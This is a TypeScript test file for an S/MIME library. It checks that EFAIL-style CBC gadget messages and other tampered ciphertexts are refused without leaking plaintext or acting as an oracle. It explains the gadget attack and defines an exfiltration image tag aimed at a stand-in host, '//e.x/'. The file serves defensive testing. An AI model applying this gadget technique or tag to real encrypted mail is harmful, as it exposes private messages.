/**
 * Issue 9, item 3: unauthenticated CBC content (EFAIL, Poddebniak et al., USENIX
 * Security 2018).
 *
 * The attack: CBC decryption computes P[i] = D(C[i]) XOR C[i-1]. An attacker who
 * knows one plaintext block (the first 16 bytes of every S/MIME entity are
 * "Content-Type: te" or similar) owns a "gadget": the pair (IV XOR P[1] XOR X, C[1])
 * decrypts to 16 bytes of garbage followed by X, the attacker's choice. Spliced
 * into the ciphertext, with the last two blocks kept so that the padding stays
 * valid, it makes the recipient decrypt attacker-chosen bytes (here an HTML img
 * tag) into the victim's own message, without knowing any key.
 *
 * Safe behaviour: CBC content is released only under a trusted signature of the
 * From address made inside the encryption; everything else (the gadget, plain
 * unsigned CBC, a failing inner signature, bad padding, a damaged key, garbled
 * ASN.1 in the plaintext) is the one UNAUTH_ENC refusal: same code, message, exit
 * status and (no) output, so a gateway answering for it is no padding or format
 * oracle. --allow-unauthenticated (allowUnauthenticated) releases unsigned CBC
 * content, flagged, and never takes RFC 9788 protected headers from it.
 */
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { TestPki } from '../helpers/pki.ts';
import { runCli } from '../cli/run-cli.ts';
import { encryptMessage } from '../../src/smime/encrypt-message.ts';
import { signMessage } from '../../src/smime/sign-message.ts';
import { decryptMessage } from '../../src/smime/decrypt-message.ts';
import { decryptMessageStream } from '../../src/smime/decrypt-message-stream.ts';
import { createSignerValidator } from '../../src/pki/create-signer-validator.ts';
import { encryptData } from '../../src/cms/enveloped-data/encrypt.ts';
import { signData } from '../../src/cms/signed-data/sign.ts';
import { parseContentInfo } from '../../src/cms/content-info.ts';
import { Tag } from '../../src/asn1/ber.ts';
import { octetString, sequence } from '../../src/asn1/der.ts';
import { OID } from '../../src/asn1/oids.ts';
import { KakitomeError } from '../../src/errors.ts';
import { KNOWN_FIRST_BLOCK, cbcGadget, openEnvelope, sealEnvelope, type Envelope } from '../helpers/cbc-gadget.ts';

const pki = new TestPki('EFAIL Test Root');
after(() => pki.cleanup());
const alice = pki.identity('rsa2048', 'alice');
const bob = pki.identity('rsa2048', 'bob');
const bobKeys = [{ key: bob.key, certificate: bob.cert }];
const validateSigner = createSignerValidator({ anchors: [pki.caCert], revocation: { mode: 'off' }, fetchCaIssuers: false });
const dir = pki.dir;

const SECRET = 'The launch code is 4711-KAKITOME.';
/** What the attacker makes the victim's client render: an image whose URL runs on into the text after it. */
const CHOSEN = Buffer.from('<img src="//e.x/', 'latin1');
assert.equal(CHOSEN.length, 16);

const htmlEntity = Buffer.from(`Content-Type: text/html; charset=utf-8\r\n\r\n<p>Dear Bob,</p>\r\n<p>${SECRET}</p>\r\n<p>Please keep it to yourself until Friday.</p>\r\n`);
const htmlMessage = Buffer.concat([Buffer.from('From: Alice <alice@example.com>\r\nTo: Bob <bob@example.com>\r\nSubject: Launch\r\nDate: Mon, 23 Nov 2026 10:00:00 +0900\r\nMIME-Version: 1.0\r\n'), htmlEntity]);

// ------------------------------------------------------------ the attacker's tools (test/helpers/cbc-gadget.ts)

/** Bad padding: the last plaintext byte (a padding length 1..16) XOR 0x80 is no valid padding. */
function badPadding(e: Envelope): Buffer {
  const c = Buffer.from(e.ciphertext);
  c[c.length - 17]! ^= 0x80;
  return sealEnvelope(e, { ciphertext: c });
}

/** A damaged key: the (only) KeyTransRecipientInfo's encryptedKey replaced by random bytes of its length. */
function damagedKey(e: Envelope): Buffer {
  const raw = e.recipientInfos.map((ri) => {
    const f = ri.children();
    const ek = f.at(-1)!;
    assert.equal(ek.tag, Tag.OCTET_STRING, 'a KeyTransRecipientInfo');
    return sequence(...f.slice(0, -1).map((t) => t.bytes), octetString(randomBytes(ek.value.length)));
  });
  return sealEnvelope(e, { rawRecipientInfos: raw });
}

function openssl(args: string[], input: Buffer, recipients: string[]): Buffer {
  const inFile = join(dir, `in-${randomBytes(4).toString('hex')}.eml`);
  writeFileSync(inFile, input);
  return execFileSync('openssl', [...args, '-in', inFile, ...recipients], { cwd: dir });
}

// -------------------------------------------------------------- the messages

/** `openssl cms -encrypt -aes256` to Bob, the message headers outside as a mail client sends them. */
const opensslCbc = openssl(['cms', '-encrypt', '-aes256', '-from', 'Alice <alice@example.com>', '-to', 'bob@example.com', '-subject', 'Launch'], htmlEntity, [bob.certPath]);
/** Ours, AES-256-CBC, unsigned (header protection on: its protected fields travel inside). */
const kakitomeCbc = encryptMessage(htmlMessage, { recipients: [{ certificate: bob.cert }], contentEncryption: 'aes-256-cbc' });
/** Sign-then-encrypt by Alice, the From address, with AES-256-CBC. */
const signedCbc = encryptMessage(htmlMessage, { recipients: [{ certificate: bob.cert }], contentEncryption: 'aes-256-cbc', sign: { signers: [{ certificate: alice.cert, key: alice.key }] } });

/** A signed message whose signed text was changed after signing ("Friday" became "Monday"), then encrypted. */
function brokenSignatureThenEncrypt(contentEncryption: 'aes-256-cbc' | 'aes-256-gcm'): Buffer {
  const signed = signMessage(htmlMessage, { signers: [{ certificate: alice.cert, key: alice.key }], headerProtection: false });
  const tampered = Buffer.from(signed.toString('latin1').replace('until Friday', 'until Monday'), 'latin1');
  assert.notDeepEqual(tampered, signed);
  return encryptMessage(tampered, { recipients: [{ certificate: bob.cert }], contentEncryption, headerProtection: false });
}

/** EnvelopedData whose plaintext is a SignedData (RFC 5652 nesting), its first DER byte 0x30 turned into 0x31 through the IV. */
function garbledAsn1(): Buffer {
  const sd = parseContentInfo(signData(htmlEntity, { signers: [{ certificate: alice.cert, key: alice.key }] })).content.bytes;
  const der = encryptData(sd, { recipients: [{ certificate: bob.cert }], contentEncryption: 'aes-256-cbc', contentType: OID.signedData });
  const message = Buffer.from(`From: alice@example.com\r\nTo: bob@example.com\r\nMIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n${der.toString('base64').replace(/.{76}/g, '$&\r\n')}\r\n`);
  const e = openEnvelope(message);
  const iv = Buffer.from(e.iv);
  iv[0]! ^= 0x01; // P[1][0] = 0x30 (SEQUENCE), known for every SignedData
  return sealEnvelope(e, { iv });
}

async function streamed(message: Buffer, options: Omit<Parameters<typeof decryptMessageStream>[1], 'output'>): Promise<{ written: Buffer; verdict?: Awaited<ReturnType<typeof decryptMessageStream>>; error?: KakitomeError }> {
  const chunks: Buffer[] = [];
  const output = new Writable({ write(c: Buffer, _e, cb) { chunks.push(c); cb(); } });
  async function* input() {
    for (let i = 0; i < message.length; i += 100) yield message.subarray(i, i + 100);
  }
  try {
    const verdict = await decryptMessageStream(input(), { ...options, output });
    return { written: Buffer.concat(chunks), verdict };
  } catch (e) {
    if (!(e instanceof KakitomeError)) throw e;
    return { written: Buffer.concat(chunks), error: e };
  }
}

// ------------------------------------------------------------------ the tests

test('the gadget works: with unauthenticated content allowed, the decrypted text carries the attacker\'s img tag', async () => {
  for (const [name, original] of [['openssl cms -encrypt -aes256', opensslCbc], ['kakitome aes-256-cbc', kakitomeCbc]] as const) {
    const gadget = cbcGadget(openEnvelope(original), KNOWN_FIRST_BLOCK, CHOSEN);
    const { message, verdict } = await decryptMessage(gadget, { keys: bobKeys, validateSigner, allowUnauthenticated: true });
    const text = message.toString('latin1');
    assert.ok(text.includes(CHOSEN.toString('latin1')), `${name}: the chosen bytes are in the plaintext`);
    assert.ok(text.includes(SECRET), `${name}: the rest of the message is intact`);
    assert.equal(verdict.code, 'UNAUTH_ENC', `${name}: flagged`);
    assert.equal(verdict.encryption?.authenticatedBy, 'none', name);
    assert.ok(verdict.warnings.some((w) => /UNAUTH_ENC/.test(w)), name);
  }
});

test('by default the gadget message is refused with UNAUTH_ENC and no plaintext, in memory and streaming', async () => {
  for (const [name, original] of [['openssl', opensslCbc], ['kakitome', kakitomeCbc]] as const) {
    const gadget = cbcGadget(openEnvelope(original), KNOWN_FIRST_BLOCK, CHOSEN);
    await assert.rejects(decryptMessage(gadget, { keys: bobKeys, validateSigner }), (e: KakitomeError) => e.code === 'UNAUTH_ENC', name);
    const s = await streamed(gadget, { keys: bobKeys, validateSigner });
    assert.equal(s.error?.code, 'UNAUTH_ENC', `${name}: streaming`);
    assert.equal(s.written.length, 0, `${name}: nothing written`);
  }
});

test('kakitome decrypt refuses the gadget: exit 1, UNAUTH_ENC with advice, no output file; --allow-unauthenticated releases it, flagged', async () => {
  const file = join(dir, 'gadget.eml');
  writeFileSync(file, cbcGadget(openEnvelope(opensslCbc), KNOWN_FIRST_BLOCK, CHOSEN));
  const out = join(dir, 'gadget-out.eml');
  const d = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '-i', file, '-o', out]);
  assert.equal(d.status, 1, d.stderr);
  assert.match(d.stderr, /UNAUTH_ENC/);
  assert.match(d.stderr, /AES-GCM/, 'says what the sender should do');
  assert.match(d.stderr, /--allow-unauthenticated/, 'says how to accept it knowingly');
  assert.ok(!existsSync(out), 'no output file');
  const toStdout = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '-i', file]);
  assert.equal(toStdout.status, 1);
  assert.equal(toStdout.stdout.length, 0, 'nothing on standard output');

  const allowed = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '--allow-unauthenticated', '-i', file, '-o', out]);
  assert.equal(allowed.status, 0, allowed.stderr);
  assert.match(allowed.stderr, /UNAUTH_ENC/, 'the release is flagged');
  assert.ok(readFileSync(out, 'latin1').includes(CHOSEN.toString('latin1')));
});

test('sign-then-encrypt by the trusted From address still decrypts (library, streaming, CLI)', async () => {
  const { message, verdict } = await decryptMessage(signedCbc, { keys: bobKeys, validateSigner });
  assert.equal(verdict.status, 'trusted', verdict.summary);
  assert.equal(verdict.code, undefined);
  assert.equal(verdict.encryption?.authenticatedBy, 'signature');
  assert.ok(message.toString('utf8').includes(SECRET));
  assert.match(message.toString('utf8'), /^Subject: Launch\r$/m, 'protected Subject restored from the signed payload');
  const s = await streamed(signedCbc, { keys: bobKeys, validateSigner });
  assert.equal(s.verdict?.status, 'trusted');
  assert.deepEqual(s.written, message);

  const file = join(dir, 'signed-cbc.eml');
  writeFileSync(file, signedCbc);
  const out = join(dir, 'signed-cbc-out.eml');
  const d = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '--ca', pki.caPath, '-i', file, '-o', out]);
  assert.equal(d.status, 0, d.stderr);
  assert.ok(readFileSync(out, 'utf8').includes(SECRET));
});

test('a signature that is valid but not trusted, or not by the From address, does not authenticate CBC content', async () => {
  // No validator: the chain is not checked, so nothing is trusted.
  await assert.rejects(decryptMessage(signedCbc, { keys: bobKeys }), (e: KakitomeError) => e.code === 'UNAUTH_ENC');
  // Signed by Alice, but the message says it is from Carol.
  const asCarol = Buffer.from(htmlMessage.toString('latin1').replace('From: Alice <alice@example.com>', 'From: Carol <carol@example.com>'), 'latin1');
  const wrongFrom = encryptMessage(asCarol, { recipients: [{ certificate: bob.cert }], contentEncryption: 'aes-256-cbc', sign: { signers: [{ certificate: alice.cert, key: alice.key }] } });
  await assert.rejects(decryptMessage(wrongFrom, { keys: bobKeys, validateSigner }), (e: KakitomeError) => e.code === 'UNAUTH_ENC');
  // A signature OUTSIDE the encryption (encrypt-then-sign) does not count: it is not inside the encryption.
  const outside = signMessage(kakitomeCbc, { signers: [{ certificate: alice.cert, key: alice.key }], headerProtection: false });
  await assert.rejects(decryptMessage(outside, { keys: bobKeys, validateSigner }), (e: KakitomeError) => e.code === 'UNAUTH_ENC');
});

test('a failing inner signature: exit 1 and no output, with CBC and with AES-GCM', async () => {
  for (const cipher of ['aes-256-cbc', 'aes-256-gcm'] as const) {
    const broken = brokenSignatureThenEncrypt(cipher);
    const file = join(dir, `broken-${cipher}.eml`);
    writeFileSync(file, broken);
    const out = join(dir, `broken-${cipher}-out.eml`);
    for (const extra of [[], ['--allow-unauthenticated']]) {
      const d = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '--ca', pki.caPath, ...extra, '-i', file, '-o', out]);
      assert.equal(d.status, 1, `${cipher} ${extra}: ${d.stderr}`);
      assert.ok(!existsSync(out), `${cipher} ${extra}: no output file`);
      const toStdout = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '--ca', pki.caPath, ...extra, '-i', file]);
      assert.equal(toStdout.status, 1);
      assert.equal(toStdout.stdout.length, 0, `${cipher} ${extra}: nothing on standard output`);
    }
    // The library: the verdict says why, the plaintext is withheld, in memory and streaming.
    const options = { keys: bobKeys, validateSigner, allowUnauthenticated: true };
    const { message, verdict } = await decryptMessage(broken, options);
    assert.equal(verdict.status, 'invalid', cipher);
    assert.equal(verdict.code, 'DIGEST_MISMATCH', cipher);
    assert.equal(message.length, 0, `${cipher}: no plaintext released`);
    const s = await streamed(broken, options);
    assert.equal(s.verdict?.status, 'invalid');
    assert.equal(s.written.length, 0, `${cipher}: nothing written by the stream`);
  }
  await assert.rejects(decryptMessage(brokenSignatureThenEncrypt('aes-256-cbc'), { keys: bobKeys, validateSigner }), (e: KakitomeError) => e.code === 'UNAUTH_ENC');
});

test('no oracle: damaged key, bad padding, garbled ASN.1, gadget, failing signature and plain unsigned CBC look the same from outside', async () => {
  const base = openEnvelope(opensslCbc);
  const cases: Array<[string, Buffer]> = [
    ['damaged key (RFC 3218 random content key)', damagedKey(base)],
    ['bad padding', badPadding(base)],
    ['garbled ASN.1 in the plaintext', garbledAsn1()],
    ['CBC gadget', cbcGadget(base, KNOWN_FIRST_BLOCK, CHOSEN)],
    ['failing inner signature', brokenSignatureThenEncrypt('aes-256-cbc')],
    ['valid but unauthenticated', opensslCbc],
  ];
  const seen = new Map<string, string[]>();
  const record = (what: string, outcome: unknown) => {
    const k = JSON.stringify(outcome);
    seen.set(k, [...(seen.get(k) ?? []), what]);
  };
  for (const [name, message] of cases) {
    // Library, in memory and streaming: the error's class, code and message.
    const mem = await decryptMessage(message, { keys: bobKeys, validateSigner }).then(() => 'released', (e: KakitomeError) => ({ name: e.name, code: e.code, message: e.message }));
    const s = await streamed(message, { keys: bobKeys, validateSigner });
    record(name, { mem, stream: s.error ? { name: s.error.name, code: s.error.code, message: s.error.message } : 'released', written: s.written.length });
    // The command line: exit status, standard output (with and without --json), standard error, output file.
    const file = join(dir, 'oracle.eml');
    writeFileSync(file, message);
    const out = join(dir, 'oracle-out.eml');
    const human = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '--ca', pki.caPath, '-i', file, '-o', out]);
    const json = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '--ca', pki.caPath, '--json', '-i', file]);
    record(`${name} (CLI)`, { status: human.status, stdout: human.stdout.toString('latin1'), stderr: human.stderr, file: existsSync(out), json: [json.status, json.stdout.toString('utf8'), json.stderr] });
  }
  const library = [...seen].filter(([, names]) => !names[0]!.endsWith('(CLI)'));
  const cli = [...seen].filter(([, names]) => names[0]!.endsWith('(CLI)'));
  assert.equal(library.length, 1, `library outcomes differ:\n${library.map(([k, n]) => `${n.join(', ')}: ${k}`).join('\n')}`);
  assert.equal(cli.length, 1, `CLI outcomes differ:\n${cli.map(([k, n]) => `${n.join(', ')}: ${k.slice(0, 400)}`).join('\n')}`);
  const outcome = JSON.parse(library[0]![0]);
  assert.equal(outcome.mem.code, 'UNAUTH_ENC');
  assert.equal(outcome.written, 0);
  const c = JSON.parse(cli[0]![0]);
  assert.equal(c.status, 1);
  assert.equal(c.file, false);
  assert.equal(c.stdout, '');
});

test('protected headers are never taken from unauthenticated plaintext', async () => {
  // Ours with header protection and the Subject hidden (issue 12 item 2 made hiding opt-in: hideSubject):
  // outside "Subject: [...]", the real Subject inside, unsigned.
  const kakitomeCbcHidden = encryptMessage(htmlMessage, { recipients: [{ certificate: bob.cert }], contentEncryption: 'aes-256-cbc', hideSubject: true });
  assert.match(kakitomeCbcHidden.toString('latin1'), /^Subject: \[\.\.\.\]\r$/m);
  const { message, verdict } = await decryptMessage(kakitomeCbcHidden, { keys: bobKeys, validateSigner, allowUnauthenticated: true });
  assert.equal(verdict.protectedHeaders, undefined, 'no protected headers reported');
  assert.match(message.toString('latin1'), /^Subject: \[\.\.\.\]\r$/m, 'the outer Subject is kept');
  assert.doesNotMatch(message.toString('latin1'), /^Subject: Launch\r$/m);
  assert.ok(verdict.warnings.some((w) => /protected header/i.test(w) && /not used|ignored/i.test(w)), verdict.warnings.join('\n'));
  const s = await streamed(kakitomeCbcHidden, { keys: bobKeys, validateSigner, allowUnauthenticated: true });
  assert.equal(s.verdict?.protectedHeaders, undefined);
  assert.deepEqual(s.written, message);
  // With AES-GCM the same message's protected headers are used (the content is authenticated).
  const gcm = encryptMessage(htmlMessage, { recipients: [{ certificate: bob.cert }] });
  const g = await decryptMessage(gcm, { keys: bobKeys, validateSigner });
  assert.equal(g.verdict.protectedHeaders?.mode, 'cipher');
  assert.match(g.message.toString('latin1'), /^Subject: Launch\r$/m);
});

test('batches never write the plaintext of a refused message (mbox and directory)', async () => {
  const gadget = cbcGadget(openEnvelope(opensslCbc), KNOWN_FIRST_BLOCK, CHOSEN);
  const gcm = encryptMessage(htmlMessage, { recipients: [{ certificate: bob.cert }] });
  const entries = [gcm, gadget, kakitomeCbc, signedCbc];
  const mbox = join(dir, 'batch.mbox');
  writeFileSync(mbox, Buffer.concat(entries.map((m) => Buffer.concat([Buffer.from('From alice@example.com Mon Nov 23 10:00:00 2026\n'), Buffer.from(m.toString('latin1').replaceAll('\r\n', '\n'), 'latin1'), Buffer.from('\n')]))));
  const outMbox = join(dir, 'batch-out.mbox');
  const b = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '--ca', pki.caPath, '--jobs', '1', '-i', mbox, '-o', outMbox]);
  assert.equal(b.status, 1, b.stderr);
  const written = readFileSync(outMbox, 'latin1');
  assert.equal(written.match(/^From /gm)?.length, 2, 'the AES-GCM and the signed CBC message only');
  assert.ok(!written.includes(CHOSEN.toString('latin1')), 'no gadget plaintext');
  assert.match(b.stderr, /UNAUTH_ENC/);

  const inDir = join(dir, 'batch-in');
  const outDir = join(dir, 'batch-out');
  mkdirSync(inDir);
  entries.forEach((m, i) => writeFileSync(join(inDir, `${i}.eml`), m));
  const d = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '--ca', pki.caPath, '--jobs', '1', '-i', inDir, '-o', outDir]);
  assert.equal(d.status, 1, d.stderr);
  assert.deepEqual(readdirSync(outDir).sort(), ['0.eml', '3.eml'], 'only the AES-GCM and the signed CBC message are written');
});
